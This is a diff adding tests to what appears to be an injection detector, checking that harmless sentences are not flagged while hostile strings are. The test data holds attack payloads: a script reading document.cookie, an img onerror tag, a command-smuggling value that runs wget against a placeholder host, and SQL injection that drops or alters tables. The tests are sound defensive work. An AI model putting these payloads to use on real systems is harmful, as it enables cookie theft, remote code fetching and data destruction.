@@ -198,6 +198,30 @@ def test_weak_signs_count_in_company() -> None:
     assert "xss" in in_json(map="';alert(document.cookie);function(x){close(1)}//")
 
 
+def test_weak_signs_are_no_company_for_each_other() -> None:
+    """Placeholders in brackets and a call, and nothing that runs them."""
+    text = "foreach(<loop_var> <items>)\n  <commands>\nendforeach() goes on close(x) and the rest"
+    assert set() == in_json(text=text)
+    assert "xss" in in_json(text=f"{text}<img src=x onerror=alert(1)>")
+
+
+def test_names_of_elements_and_programs_in_a_sentence() -> None:
+    """A bare element does nothing and a named program is not run; with more they are found."""
+    assert set() == in_json(text="git replace takes an <object> and gives a <commit> for it")
+    assert "xss" in in_json(text=f"{FILLER}<object data='//e.example/x'>")
+    assert set() == in_json(text='COMSPEC is set to "cmd.exe" on all newer machines')
+    assert "command-injection" in in_json(text=f"{FILLER}x | cmd.exe /c dir")
+    assert set() == in_json(text="The machinery to clone & fetch, which is used by pull")
+    assert "command-injection" in in_json(text=f"{FILLER}x & wget http://e.example/x")
+
+
+def test_a_quoted_name_with_words_of_sql() -> None:
+    """A statement ends; a second name behind it fits no database."""
+    assert set() == in_json(q='"Drop Table Records" vinyl 12"')
+    assert "sql-injection" in in_json(q='x"; drop table records --')
+    assert "sql-injection" in in_json(q="x'; alter table users add c int --")
+
+
 def test_alternatives_of_a_regular_expression() -> None:
     """In a group of an expression a bar is no pipe; behind the group it is one."""
     assert set() == in_json(pattern=r"\b(?!\.(?:com|net)$)")
